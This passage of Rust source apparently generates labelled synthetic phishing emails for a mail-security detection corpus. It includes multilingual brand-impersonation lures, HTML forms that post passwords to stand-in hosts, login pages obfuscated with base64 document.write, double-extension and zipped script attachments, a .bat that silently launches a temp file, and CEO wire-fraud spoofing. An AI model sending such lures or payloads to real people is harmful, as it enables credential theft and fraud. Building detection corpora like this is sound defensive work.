    );
    let m = msg(
        &name,
        Mailer::Esp,
        mailbox("Microsoft", "security@ms-accountnotice.example"),
        person(CFO),
        "Blocked sign-in attempt",
        date(15, 3 * 60 + 8, 12, "+0000"),
        html(&body),
    );
    out.push(sample(
        KIND,
        2,
        true,
        CFO.1,
        attacker_env("security@ms-accountnotice.example", 2, Auth::Aligned),
        m.render(),
    ));

    let name = format!("{KIND}-03");
    let body = "<html><body style=\"font-family:Arial;font-size:14px\"><p><b>amazon</b>.de</p><p>Sehr geehrter Kunde,</p><p>Ihr Amazon-Konto wurde vorübergehend gesperrt, da wir ungewöhnliche Aktivitäten festgestellt haben. Bitte bestätigen Sie Ihre Zahlungsinformationen, um eine dauerhafte Sperrung zu vermeiden.</p><p><a href=\"https://www.xn--mazon-3ve.com/ap/signin?ref=de_konto\" style=\"background:#f0c14b;color:#111;padding:8px 20px;text-decoration:none;border:1px solid #a88734\">Jetzt bestätigen</a></p><p>Vielen Dank,<br>Ihr Amazon-Kundenservice</p></body></html>\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("Amazon.de", "konto-update@amazon-kundenservice.example"),
        DIETER.1.to_string(),
        "Ihr Amazon-Konto wurde vorübergehend gesperrt",
        date(18, 19 * 60 + 44, 7, "+0100"),
        html(body),
    );
    out.push(sample(
        KIND,
        3,
        true,
        DIETER.1,
        attacker_env(
            "konto-update@amazon-kundenservice.example",
            3,
            Auth::Unauthenticated,
        ),
        m.render(),
    ));
    out
}

/// A form in the message body that posts a password.
fn html_form_body() -> Vec<Sample> {
    const KIND: &str = "html-form-body";
    let mut out = Vec::new();

    let name = format!("{KIND}-00");
    let body = "<html><body style=\"font-family:Arial;font-size:13px\"><table width=\"520\" cellpadding=\"10\" style=\"border:1px solid #ccc\"><tr><td style=\"background:#1f4e79;color:#fff\"><b>example.org Webmail - Account upgrade</b></td></tr><tr><td>Dear user,<br><br>We are upgrading all mailboxes to the new server. To avoid interruption of service, confirm your login details below. Accounts not confirmed within 48 hours will be disabled.<br><br><form action=\"https://webmail-upgrade-center.example/post.php\" method=\"post\"><table><tr><td>Email:</td><td><input type=\"text\" name=\"email\" value=\"bob@example.org\" size=\"30\"></td></tr><tr><td>Password:</td><td><input type=\"password\" name=\"pass\" size=\"30\"></td></tr><tr><td></td><td><input type=\"submit\" value=\"Confirm account\"></td></tr></table></form></td></tr><tr><td style=\"font-size:11px;color:#777\">&copy; 2025 example.org Mail Services</td></tr></table></body></html>\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("Webmail Support", "support@webmail-upgrade-center.example"),
        BOB.1.to_string(),
        "Mailbox upgrade required",
        date(5, 8 * 60 + 19, 44, "+0000"),
        html(body),
    );
    out.push(sample(
        KIND,
        0,
        true,
        BOB.1,
        attacker_env(
            "support@webmail-upgrade-center.example",
            0,
            Auth::Unauthenticated,
        ),
        m.render(),
    ));

    let name = format!("{KIND}-01");
    let body = "<html><body style=\"font-family:Verdana;font-size:12px\"><p><b>Banque Populaire de l'Ouest - Espace client</b></p><p>Chère cliente, cher client,</p><p>Dans le cadre de la directive européenne DSP2, nous devons vérifier votre identité. Sans quoi votre compte sera suspendu sous 48 heures.</p><form method=\"post\" action=\"https://bpo-clients-verif.example/dsp2/valid.php\"><p>Identifiant client : <input type=\"text\" name=\"ident\"></p><p>Code d'accès : <input type=\"password\" name=\"code\" maxlength=\"6\"></p><p>Numéro de téléphone : <input type=\"text\" name=\"tel\"></p><p><input type=\"submit\" value=\"Valider\"></p></form><p>Nous vous remercions de votre confiance.<br>Le service sécurité</p></body></html>\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("Banque Populaire", "securite@bpo-clients-verif.example"),
        ALICE.1.to_string(),
        "Action requise : vérifiez votre identité",
        date(10, 21 * 60 + 8, 27, "+0100"),
        html(body),
    );
    out.push(sample(
        KIND,
        1,
        true,
        ALICE.1,
        attacker_env(
            "securite@bpo-clients-verif.example",
            1,
            Auth::Unauthenticated,
        ),
        m.render(),
    ));

    let name = format!("{KIND}-02");
    let body = "<html><body style=\"font-family:Calibri,Arial;font-size:14px\"><p>Hi Carla,</p><p>Greg Walsh has sent you a secure file: <b>Tailspin_Rate_Card_2025.pdf</b> (312 KB).</p><p>This document is password protected. Enter your email password to view it.</p><form action=\"https://securefile-viewer.example/auth\" method=\"POST\"><input type=\"hidden\" name=\"doc\" value=\"TRC2025\"><input type=\"email\" name=\"login\" value=\"carla@example.org\"><br><input type=\"password\" name=\"pwd\" placeholder=\"Password\"><br><button type=\"submit\">View document</button></form><p style=\"color:#888;font-size:11px\">Secure File Delivery</p></body></html>\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox(
            "Greg Walsh (Secure File)",
            "noreply@securefile-viewer.example",
        ),
        person(CARLA),
        "Greg Walsh sent you a secure document",
        date(19, 10 * 60 + 2, 5, "+0000"),
        alternative(vec![plain(&html_to_text(body)), html(body)]),
    );
    out.push(sample(
        KIND,
        2,
        true,
        CARLA.1,
        attacker_env("noreply@securefile-viewer.example", 2, Auth::Aligned),
        m.render(),
    ));
    out
}

/// A stand-alone login page of the kind sent as an .html attachment.
fn login_page(title: &str, heading: &str, action: &str, email: &str) -> String {
    format!(
        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n<title>{title}</title>\n<style>body{{font-family:'Segoe UI',Arial,sans-serif;background:#f2f2f2}}.box{{width:360px;margin:80px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}}input{{width:100%;padding:8px;margin:8px 0;border:none;border-bottom:1px solid #666}}button{{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right}}</style>\n</head>\n<body>\n<div class=\"box\">\n<img src=\"https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg\" alt=\"Microsoft\">\n<h2>{heading}</h2>\n<p>Your session has expired. Please sign in again to continue.</p>\n<form method=\"POST\" action=\"{action}\">\n<input type=\"email\" name=\"login\" value=\"{email}\" readonly>\n<input type=\"password\" name=\"passwd\" placeholder=\"Password\" required autofocus>\n<input type=\"hidden\" name=\"ref\" value=\"attach\">\n<button type=\"submit\">Sign in</button>\n</form>\n</div>\n</body>\n</html>\n"
    )
}

/// The same page hidden behind `document.write(atob(...))`.
fn obfuscated_page(inner: &str) -> String {
    let b = base64(inner.as_bytes());
    format!(
        "<html><head><meta charset=\"utf-8\"></head><body>\n<script>\nvar _d='{b}';\ndocument.write(atob(_d));\n</script>\n</body></html>\n"
    )
}

/// Voicemail, fax and remittance notices with a login page attached.
fn html_attachment_login() -> Vec<Sample> {
    const KIND: &str = "html-attachment-login";
    let mut out = Vec::new();

    let name = format!("{KIND}-00");
    let text = "You have received a new voice message.\n\nFrom: +1 (415) 555-0134\nTo: bob@example.org\nDuration: 00:00:42\nReceived: 3/12/2025 9:14 AM\n\nPlease open the attached file to listen to the message.\n\nMicrosoft Teams Voice\n";
    let page = login_page(
        "Voicemail",
        "Sign in to play your message",
        "https://vm-playback-srv.example/next.php",
        "bob@example.org",
    );
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("Voice Mail Service", "voicemail@telecom-notify.example"),
        BOB.1.to_string(),
        "New voicemail from +1 (415) 555-0134 (0:42)",
        date(9, 9 * 60 + 15, 2, "-0800"),
        mixed(vec![
            plain(text),
            attachment("text/html", "VM_Playback_+14155550134.htm", page.as_bytes()),
        ]),
    );
    out.push(sample(
        KIND,
        0,
        true,
        BOB.1,
        attacker_env("voicemail@telecom-notify.example", 0, Auth::Aligned),
        m.render(),
    ));

    let name = format!("{KIND}-01");
    let body = "<html><body style=\"font-family:Arial;font-size:13px\"><p><b>eFax Notification</b></p><p>You have received a 3 page fax at 2025-03-13 14:22:08 GMT.</p><p>* The reference number for this fax is lax1_did33-1741875728-3105550199-94.</p><p>Please open the attached document to view your fax.</p><p>Thank you for using the eFax service!</p></body></html>\n";
    let inner = login_page(
        "Fax Document",
        "Sign in to view your fax",
        "https://faxdoc-viewer.example/api/auth",
        "alice@example.org",
    );
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("eFax", "message@efax-delivery-notice.example"),
        ALICE.1.to_string(),
        "Fax from 3105550199 - 3 page(s)",
        date(10, 14 * 60 + 22, 8, "+0000"),
        mixed(vec![
            html(body),
            attachment(
                "text/html",
                "Fax_Doc_20250313.html",
                obfuscated_page(&inner).as_bytes(),
            ),
        ]),
    );
    out.push(sample(
        KIND,
        1,
        true,
        ALICE.1,
        attacker_env(
            "message@efax-delivery-notice.example",
            1,
            Auth::Unauthenticated,
        ),
        m.render(),
    ));

    // 2: a compromised customer's real mailbox sending "remittance advice".
    let name = format!("{KIND}-02");
    let text = "Hello,\n\nPlease see attached remittance advice for payment ACH-88213 released today.\n\nKindly confirm receipt.\n\nThank you,\nAccounts Payable\nPinnacle Logistics\n";
    let page = login_page(
        "Remittance Advice",
        "Sign in to view remittance",
        "https://remit-view-portal.example/ach/verify",
        "ap@example.org",
    );
    let m = msg(
        &name,
        Mailer::Outlook,
        mailbox("Pinnacle Logistics AP", "ap@pinnacle-logistics.example"),
        person(AP),
        "Remittance Advice - ACH-88213",
        date(11, 16 * 60 + 5, 49, "-0600"),
        mixed(vec![
            outlook_body(text),
            attachment_outlook(
                "text/html",
                "Remittance_Advice_ACH-88213.html",
                page.as_bytes(),
                "Fri, 14 Mar 2025 22:04:12 GMT",
            ),
        ]),
    );
    let mut env = org_env("ap@pinnacle-logistics.example", 2, Auth::Aligned, false);
    env.ip = rented_ip("pinnacle-compromised");
    out.push(sample(KIND, 2, true, AP.1, env, m.render()));

    let name = format!("{KIND}-03");
    let text = "Good day,\n\nKindly find attached our purchase order PO-77812 and confirm availability and lead time at your earliest convenience.\n\nBest regards,\nDaniel Osei\nProcurement Officer\n";
    let inner = login_page(
        "PO-77812",
        "Sign in with your work account to view this document",
        "https://po-docs-viewer.example/o365/login.php",
        "carla@example.org",
    );
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("Daniel Osei", "procurement@gold-coast-trading.example"),
        person(CARLA),
        "Purchase Order PO-77812",
        date(15, 10 * 60 + 47, 30, "+0000"),
        mixed(vec![
            plain(text),
            attachment(
                "text/html",
                "PO-77812.html",
                obfuscated_page(&inner).as_bytes(),
            ),
        ]),
    );
    out.push(sample(
        KIND,
        3,
        true,
        CARLA.1,
        attacker_env("procurement@gold-coast-trading.example", 3, Auth::Aligned),
        m.render(),
    ));

    let name = format!("{KIND}-04");
    let text = "Sehr geehrte Damen und Herren,\n\nanbei erhalten Sie unser Zahlungsavis zur Überweisung vom 17.03.2025.\n\nBitte öffnen Sie den Anhang und melden Sie sich mit Ihrem Firmenkonto an, um das Dokument anzuzeigen.\n\nMit freundlichen Grüßen\nBuchhaltung\nHanse Logistik GmbH\n";
    let page = login_page(
        "Zahlungsavis",
        "Anmelden, um das Dokument anzuzeigen",
        "https://hanse-avis-portal.example/login/post",
        "dieter@example.org",
    );
    let m = msg(
        &name,
        Mailer::Php,
        mailbox(
            "Hanse Logistik Buchhaltung",
            "buchhaltung@hanse-logistik-avis.example",
        ),
        person(DIETER),
        "Zahlungsavis 17.03.2025",
        date(14, 11 * 60 + 26, 3, "+0100"),
        mixed(vec![
            plain(text),
            attachment("text/html", "Zahlungsavis_2025-03-17.htm", page.as_bytes()),
        ]),
    );
    out.push(sample(
        KIND,
        4,
        true,
        DIETER.1,
        attacker_env(
            "buchhaltung@hanse-logistik-avis.example",
            4,
            Auth::Unauthenticated,
        ),
        m.render(),
    ));
    out
}

/// Archives holding executables or scripts under document names.
fn zip_executable() -> Vec<Sample> {
    const KIND: &str = "zip-executable";
    let mut out = Vec::new();

    let name = format!("{KIND}-00");
    let archive = zip(&[("Invoice_23813.pdf.exe", &exe())]);
    let text = "Dear Sir/Madam,\n\nPlease find attached invoice 23813 for the goods delivered on 28/02/2025. Payment is due within 7 days.\n\nIf you have any questions please do not hesitate to contact us.\n\nRegards,\nKaren Mills\nCredit Control\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("Karen Mills", "k.mills@brightstar-wholesale.example"),
        person(AP),
        "Invoice 23813",
        date(2, 8 * 60 + 2, 11, "+0000"),
        mixed(vec![
            plain(text),
            attachment("application/zip", "Invoice_23813.zip", &archive),
        ]),
    );
    out.push(sample(
        KIND,
        0,
        true,
        AP.1,
        attacker_env(
            "k.mills@brightstar-wholesale.example",
            0,
            Auth::Unauthenticated,
        ),
        m.render(),
    ));

    let name = format!("{KIND}-01");
    let archive = zip(&[("statement.js", &wsh_script())]);
    let text = "Hi,\n\nAttached is your statement of account for March. There are 3 items outstanding, please review and arrange payment.\n\nThanks,\nFinance Team\n";
    let m = msg(
        &name,
        Mailer::Outlook,
        mailbox("Finance Team", "finance@crestline-partners.example"),
        person(CFO),
        "Statement of account - March 2025",
        date(9, 13 * 60 + 40, 56, "-0500"),
        mixed(vec![
            outlook_body(text),
            attachment_outlook(
                "application/x-zip-compressed",
                "Statement_March_2025.zip",
                &archive,
                "Wed, 12 Mar 2025 18:38:02 GMT",
            ),
        ]),
    );
    let mut env = org_env(
        "finance@crestline-partners.example",
        1,
        Auth::SpfOnly,
        false,
    );
    env.ip = rented_ip("crestline");
    out.push(sample(KIND, 1, true, CFO.1, env, m.render()));

    let name = format!("{KIND}-02");
    let archive = zip(&[
        ("Rechnung_2025-0419.pdf.vbs", &vbs_script()),
        ("Lieferschein.txt", b"Lieferschein 2025-0419\r\n".as_slice()),
    ]);
    let text = "Guten Tag,\n\nanbei erhalten Sie die Rechnung Nr. 2025-0419 als ZIP-Archiv. Bitte begleichen Sie den Betrag von 1.284,60 EUR innerhalb von 7 Tagen.\n\nMit freundlichen Grüßen\nBuchhaltung\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("Buchhaltung", "rechnung@kaufmann-handel.example"),
        person(DIETER),
        "Rechnung Nr. 2025-0419",
        date(6, 7 * 60 + 12, 29, "+0100"),
        mixed(vec![
            plain(text),
            attachment("application/zip", "Rechnung_2025-0419.zip", &archive),
        ]),
    );
    out.push(sample(
        KIND,
        2,
        true,
        DIETER.1,
        attacker_env("rechnung@kaufmann-handel.example", 2, Auth::Unauthenticated),
        m.render(),
    ));

    let name = format!("{KIND}-03");
    let archive = zip(&[("AWB_7734120385.exe", &exe())]);
    let body = "<html><body style=\"font-family:Arial;font-size:13px\"><p><b style=\"color:#d40511\">DHL</b> Express</p><p>Dear Customer,</p><p>Your parcel could not be delivered because the address is incomplete. Please see the attached shipping documents (AWB 7734120385), correct the address and return them to your local DHL office.</p><p>Kind regards,<br>DHL Express Customer Service</p></body></html>\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("DHL Express", "info@dhl-shipping-docs.example"),
        BOB.1.to_string(),
        "DHL Shipment Notification: AWB 7734120385",
        date(13, 5 * 60 + 30, 17, "+0000"),
        mixed(vec![
            html(body),
            attachment("application/zip", "AWB_7734120385.zip", &archive),
        ]),
    );
    out.push(sample(
        KIND,
        3,
        true,
        BOB.1,
        attacker_env("info@dhl-shipping-docs.example", 3, Auth::Unauthenticated),
        m.render(),
    ));
    out
}

/// Executables attached under a document's name.
fn double_extension() -> Vec<Sample> {
    const KIND: &str = "double-extension";
    let mut out = Vec::new();
    let vs = [
        (
            "Accounts Dept",
            "accounts@harbourline-freight.example",
            "Overdue invoice",
            "Hello,\n\nPlease see the attached invoice, which is now overdue. Kindly process payment at your earliest convenience.\n\nRegards,\nAccounts Dept\n",
            AP,
            "invoice.pdf.exe",
        ),
        (
            "Scanner",
            "scan@copyshop-riverside.example",
            "Scanned image from MX-2640N",
            "Reply to: scan@copyshop-riverside.example\nDevice Name: MX-2640N\nDevice Model: MX-2640N\nLocation: 2nd floor\n\nFile Format: JPEG\nResolution: 200dpi x 200dpi\n\nAttached file is scanned image in JPEG format.\n",
            BOB,
            "Scan_0031.jpg.scr",
        ),
        (
            "Thomas Brandt",
            "t.brandt@brandt-industrie.example",
            "Angebot 2025 - bitte prüfen",
            "Hallo Herr Müller,\n\nwie telefonisch besprochen anbei unser Angebot für 2025. Bitte prüfen und kurz Rückmeldung geben.\n\nViele Grüße\nThomas Brandt\n",
            DIETER,
            "Angebot_2025.docx.exe",
        ),
        (
            "Departamento de Facturación",
            "facturas@logistica-iberia.example",
            "Factura pendiente de pago",
            "Buenos días,\n\nAdjuntamos la factura pendiente de pago correspondiente al mes de febrero. Le rogamos que la revise.\n\nAtentamente,\nDepartamento de Facturación\n",
            CARLA,
            "Factura_Febrero_2025.pdf.bat",
        ),
    ];
    for (i, (display, addr, subject, text, to, file)) in vs.into_iter().enumerate() {
        let name = format!("{KIND}-{i:02}");
        let data = if file.ends_with(".bat") {
            b"@echo off\r\nrem factura\r\nstart /min \"\" %TEMP%\\upd.tmp\r\nexit\r\n".to_vec()
        } else {
            exe()
        };
        let ctype = pick(
            &[
                "application/octet-stream",
                "application/x-msdownload",
                "application/octet-stream",
                "application/x-msdos-program",
            ],
            i,
        );
        let m = msg(
            &name,
            pick(
                &[Mailer::Php, Mailer::Mta, Mailer::Thunderbird, Mailer::Php],
                i,
            ),
            mailbox(display, addr),
            person(to),
            subject,
            date(
                3 + i * 5,
                9 * 60 + i * 37,
                i * 11,
                pick(&["+0000", "+0900", "+0100", "+0100"], i),
            ),
            mixed(vec![plain(text), attachment(ctype, file, &data)]),
        );
        out.push(sample(
            KIND,
            i,
            true,
            to.1,
            attacker_env(
                addr,
                i,
                if i % 2 == 0 {
                    Auth::Unauthenticated
                } else {
                    Auth::SpfOnly
                },
            ),
            m.render(),
        ));
    }
    out
}

/// Mail claiming to be from example.org itself, sent from elsewhere.
fn own_domain_spoof() -> Vec<Sample> {
    const KIND: &str = "own-domain-spoof";
    let mut out = Vec::new();
    let spoofed = |mail_from: &str, i: usize| {
        let mut env = attacker_env(mail_from, i, Auth::Spoofed);
        env.ip = rented_ip(&format!("spoof{i}"));
        env
    };

    let name = format!("{KIND}-00");
    let body = "<html><body style=\"font-family:Calibri,Arial;font-size:14px\"><p>Dear Staff,</p><p>As part of our annual security review, all employees are required to re-validate their network password before <b>Friday 5 PM</b>. Accounts that have not been re-validated will be locked and will require a visit to the IT desk to restore.</p><p><a href=\"https://example-org-sso.com/adfs/ls/?client-request-id=7f3e&amp;username=bob%40example.org\">Re-validate your password</a></p><p>This only takes a minute. Thank you for helping keep Example Org secure.</p><p>IT Helpdesk<br>Example Org</p></body></html>\n";
    let m = msg(
        &name,
        Mailer::Php,
        person(IT),
        BOB.1.to_string(),
        "ACTION REQUIRED: Password re-validation",
        date(3, 7 * 60 + 45, 10, "+0000"),
        alternative(vec![plain(&html_to_text(body)), html(body)]),
    );
    out.push(sample(KIND, 0, true, BOB.1, spoofed(IT.1, 0), m.render()));

    let name = format!("{KIND}-01");
    let body = "<html><body style=\"font-family:Arial;font-size:13px\"><p>Hallo Dieter,</p><p>im Rahmen der Umstellung auf das neue Anmeldesystem müssen alle Mitarbeiter ihr Passwort bis <b>Freitag</b> neu bestätigen. Andernfalls wird Ihr Konto automatisch gesperrt.</p><p><a href=\"https://sso-example-org.example/login?u=dieter\">Passwort jetzt bestätigen</a></p><p>Bei Fragen wenden Sie sich bitte an das IT-Team.</p><p>Viele Grüße<br>IT Helpdesk</p></body></html>\n";
    let m = msg(
        &name,
        Mailer::Php,
        person(IT),
        person(DIETER),
        "Passwort-Revalidierung erforderlich",
        date(3, 8 * 60 + 2, 33, "+0100"),
        html(body),
    );
    out.push(sample(
        KIND,
        1,
        true,
        DIETER.1,
        spoofed(IT.1, 1),
        m.render(),
    ));

    let name = format!("{KIND}-02");
    let text = "John,\n\nAre you at your desk? I need a wire processed before noon, it's for a confidential matter. Reply to this email and I'll send you the details.\n\nJane\n\nSent from my iPhone\n";
    let m = msg(
        &name,
        Mailer::IPhone,
        person(CEO),
        person(CFO),
        "Quick request",
        date(8, 9 * 60 + 3, 41, "-0500"),
        plain(text),
    )
    .header("Reply-To", "Jane Doe <jane.doe.exec.office@gmail.com>");
    out.push(sample(
        KIND,
        2,
        true,
        CFO.1,
        spoofed("info@mailer-relay-07.example", 2),
        m.render(),
    ));

    let name = format!("{KIND}-03");
    let text = "Reply to: scanner@example.org <scanner@example.org>\nDevice Name: RICOH MP C3004\nFile Format: HTML\nPages: 2\n\nPlease open the attached document. This e-mail was sent from a scanning device; do not reply.\n";
    let page = login_page(
        "Scan",
        "Sign in to view your scanned document",
        "https://scan-docs-portal.example/auth/next",
        "alice@example.org",
    );
    let m = msg(
        &name,
        Mailer::Mta,
        mailbox("Scanner", "scanner@example.org"),
        ALICE.1.to_string(),
        "Message from \"RNP00267345A1B2\"",
        date(16, 10 * 60 + 18, 27, "+0000"),
        mixed(vec![
            plain(text),
            attachment("text/html", "Scan_20250319_1017.html", page.as_bytes()),
        ]),
    );
    out.push(sample(
        KIND,
        3,
        true,
        ALICE.1,
        spoofed("scanner@example.org", 3),
        m.render(),
    ));
    out
}

/// A DocuSign look with its button going elsewhere.
fn docusign_html(sender: &str, document: &str, href: &str, button: &str, intro: &str) -> String {
    format!(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body style=\"background:#eaeaea;margin:0\"><table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td align=\"center\" style=\"padding:24px\"><table width=\"640\" cellpadding=\"0\" style=\"background:#fff\"><tr><td style=\"padding:16px 24px\"><b style=\"font-family:Helvetica,Arial;font-size:20px;color:#333\">DocuSign</b></td></tr><tr><td style=\"background:#1e4ca1;padding:32px;text-align:center;font-family:Helvetica,Arial;color:#fff\"><p style=\"font-size:16px\">{intro}</p><a href=\"{href}\" style=\"display:inline-block;background:#ffc423;color:#333;font-weight:bold;padding:12px 28px;text-decoration:none;font-family:Helvetica,Arial;font-size:14px\">{button}</a></td></tr><tr><td style=\"padding:24px;font-family:Helvetica,Arial;font-size:14px;color:#333\"><b>{sender}</b><br><br>Please review and sign {document}.<br><br>Thank you,<br>{sender}</td></tr><tr><td style=\"padding:24px;font-family:Helvetica,Arial;font-size:11px;color:#666;background:#f4f4f4\"><b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.<br><br><b>About DocuSign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.</td></tr></table></td></tr></table></body></html>\n"
    )
}

/// Fake signature requests.
fn fake_docusign() -> Vec<Sample> {
    const KIND: &str = "fake-docusign";
    let mut out = Vec::new();
    struct V {
        display: &'static str,
        addr: &'static str,
        to: (&'static str, &'static str),
        subject: &'static str,
        sender: &'static str,
        document: &'static str,
        href: &'static str,
        button: &'static str,
        intro: &'static str,
        auth: Auth,
    }
    let vs = [
        V {
            display: "DocuSign",
            addr: "dse@docusign-envelope.example",
            to: BOB,
            subject: "Jane Doe sent you a document to review and sign",
            sender: "Jane Doe",
            document: "Q1_Compensation_Adjustment.pdf",
            href: "https://docusign-envelope.example/Signing/EmailStart.aspx?a=8f0c2d1e&acct=bob@example.org",
            button: "REVIEW DOCUMENT",
            intro: "Jane Doe sent you a document to review and sign.",
            auth: Auth::Aligned,
        },
        V {
            display: "Acme Supplies Ltd via DocuSign",
            addr: "dse_na2@docusigned-mail.example",
            to: AP,
            subject: "Please DocuSign: Acme_Supplies_MSA_2025.pdf",
            sender: "Maria Lopez",
            document: "Acme_Supplies_MSA_2025.pdf",
            href: "https://acme-msa-2025.sign-docs-online.example/view?id=ZW52ZWxvcGU",
            button: "REVIEW DOCUMENT",
            intro: "Maria Lopez sent you a document to review and sign.",
            auth: Auth::Aligned,
        },
        V {
            display: "DocuSign Electronic Signature",
            addr: "info@ohio-landscaping.example",
            to: CFO,
            subject: "Completed: Wire_Authorization_Form.pdf",
            sender: "Treasury Department",
            document: "Wire_Authorization_Form.pdf",
            href: "http://ohio-landscaping.example/wp-content/uploads/2024/ds/index.php",
            button: "VIEW COMPLETED DOCUMENT",
            intro: "All parties have completed Wire_Authorization_Form.pdf.",
            auth: Auth::SpfOnly,
        },
        V {
            display: "DocuSign",
            addr: "noreply@signature-electronique.example",
            to: ALICE,
            subject: "Veuillez signer : Avenant_contrat_travail.pdf",
            sender: "Service RH",
            document: "Avenant_contrat_travail.pdf",
            href: "https://www.xn--docuign-mog.net/Signing/StartInSession.aspx?t=fr",
            button: "CONSULTER LE DOCUMENT",
            intro: "Service RH vous a envoyé un document à consulter et à signer.",
            auth: Auth::Unauthenticated,
        },
    ];
    for (i, v) in vs.into_iter().enumerate() {
        let name = format!("{KIND}-{i:02}");
        let body = docusign_html(v.sender, v.document, v.href, v.button, v.intro);
        let m = msg(
            &name,
            if i % 2 == 0 { Mailer::Esp } else { Mailer::Php },
            mailbox(v.display, v.addr),
            person(v.to),
            v.subject,
            date(
                4 + i * 4,
                15 * 60 + i * 53,
                i * 13,
                pick(&["-0700", "+0000", "-0500", "+0100"], i),
            ),
            alternative(vec![plain(&html_to_text(&body)), html(&body)]),
        );
        let env = if matches!(v.auth, Auth::SpfOnly) {
            let mut e = org_env(v.addr, i, Auth::SpfOnly, false);
            e.ip = rented_ip("ohio");
            e
        } else {
            attacker_env(v.addr, i, v.auth)
        };
        out.push(sample(KIND, i, true, v.to.1, env, m.render()));
    }
    out
}

/// Parcel lures asking for a small customs or redelivery fee.
fn parcel_fee() -> Vec<Sample> {
    const KIND: &str = "parcel-fee";
    let mut out = Vec::new();
    struct V {
        display: &'static str,
        addr: &'static str,
        to: (&'static str, &'static str),
        subject: &'static str,
        html: &'static str,
    }
    let vs = [
        V {
            display: "DHL Express",
            addr: "noreply@dhl-express-delivery.example",
            to: BOB,
            subject: "Your shipment is on hold: customs fee unpaid",
            html: "<html><body style=\"font-family:Frutiger,Arial;font-size:14px\"><div style=\"background:#ffcc00;padding:14px\"><b style=\"color:#d40511;font-size:22px\">DHL</b></div><p>Dear customer,</p><p>Your shipment <b>JD014600006281430923</b> is waiting for delivery. Import customs fees of <b>EUR 2.99</b> have not been paid.</p><p>Please pay within 48 hours, otherwise the parcel will be returned to the sender.</p><p><a href=\"https://dhl-express-delivery.example/track/pay?id=JD014600006281430923\" style=\"background:#d40511;color:#fff;padding:10px 20px;text-decoration:none\">Pay and schedule delivery</a></p><p>DHL Express Customer Service</p></body></html>\n",
        },
        V {
            display: "DHL Paket",
            addr: "service@dhl-paket-zustellung.example",
            to: DIETER,
            subject: "Ihre Sendung konnte nicht zugestellt werden",
            html: "<html><body style=\"font-family:Arial;font-size:14px\"><div style=\"background:#ffcc00;padding:12px\"><b style=\"color:#d40511\">DHL</b></div><p>Hallo,</p><p>Ihr Paket mit der Sendungsnummer <b>00340434161094027318</b> konnte heute nicht zugestellt werden, da die Zollgebühr in Höhe von <b>1,99 €</b> noch nicht bezahlt wurde.</p><p>Bitte begleichen Sie die Gebühr innerhalb von 24 Stunden, um eine neue Zustellung zu planen:</p><p><a href=\"https://dhl-paket-zustellung.example/sendung/zahlung.php?n=00340434161094027318\">Zustellung planen</a></p><p>Ihr DHL Team</p></body></html>\n",
        },
        V {
            display: "La Poste - Colissimo",
            addr: "ne-pas-repondre@colissimo-suivi-fr.example",
            to: ALICE,
            subject: "Votre colis est en attente de livraison",
            html: "<html><body style=\"font-family:Arial;font-size:14px\"><p><b style=\"color:#003da5\">Colissimo</b></p><p>Bonjour,</p><p>Votre colis n° <b>6A23948571025</b> est en attente de livraison. Des frais d'affranchissement complémentaires de <b>1,99 €</b> sont à régler.</p><p>Sans règlement sous 48 heures, votre colis sera retourné à l'expéditeur.</p><p><a href=\"https://colissimo-suivi-fr.example/reglement/6A23948571025\">Programmer ma livraison</a></p><p>L'équipe Colissimo</p></body></html>\n",
        },
        V {
            display: "Correos",
            addr: "info@correos-envios-es.example",
            to: CARLA,
            subject: "Su paquete está retenido en aduanas",
            html: "<html><body style=\"font-family:Arial;font-size:14px\"><div style=\"background:#ffcd00;padding:12px\"><b style=\"color:#002e6d\">Correos</b></div><p>Estimado cliente:</p><p>Su envío <b>PQ4F2X0613428570108046K</b> se encuentra retenido en nuestro centro logístico por una tasa de aduana pendiente de <b>1,79 €</b>.</p><p>Realice el pago hoy mismo para recibir su paquete:</p><p><a href=\"http://correos-envios-es.example/pago/index.php?env=PQ4F2X0613428570108046K\">Pagar ahora</a></p><p>Gracias por confiar en Correos.</p></body></html>\n",
        },
    ];
    for (i, v) in vs.into_iter().enumerate() {
        let name = format!("{KIND}-{i:02}");
        let body = if i % 2 == 0 {
            alternative(vec![plain(&html_to_text(v.html)), html(v.html)])
        } else {
            html(v.html)
        };
        let m = msg(
            &name,
            Mailer::Php,
            mailbox(v.display, v.addr),
            v.to.1.to_string(),
            v.subject,
            date(
                2 + i * 6,
                6 * 60 + i * 91,
                i * 9,
                pick(&["+0000", "+0100", "+0100", "+0100"], i),
            ),
            body,
        );
        let auth = if i == 0 {
            Auth::Aligned
        } else {
            Auth::Unauthenticated
        };
        out.push(sample(
            KIND,
            i,
            true,
            v.to.1,
            attacker_env(v.addr, i, auth),
            m.render(),
        ));
    }
    out
}

/// Banks locking accounts, in German, French and Spanish.
fn bank_account_locked() -> Vec<Sample> {
    const KIND: &str = "bank-account-locked";
    let mut out = Vec::new();
    struct V {
        display: &'static str,
        addr: &'static str,
        to: (&'static str, &'static str),
        subject: &'static str,
        text: &'static str,
        link: &'static str,
        label: &'static str,
        zone: &'static str,
    }
    let vs = [
        V {
            display: "Sparkasse",
            addr: "kundenservice@sparkasse-sicherheit.example",
            to: DIETER,
            subject: "Wichtige Mitteilung zu Ihrem Konto",
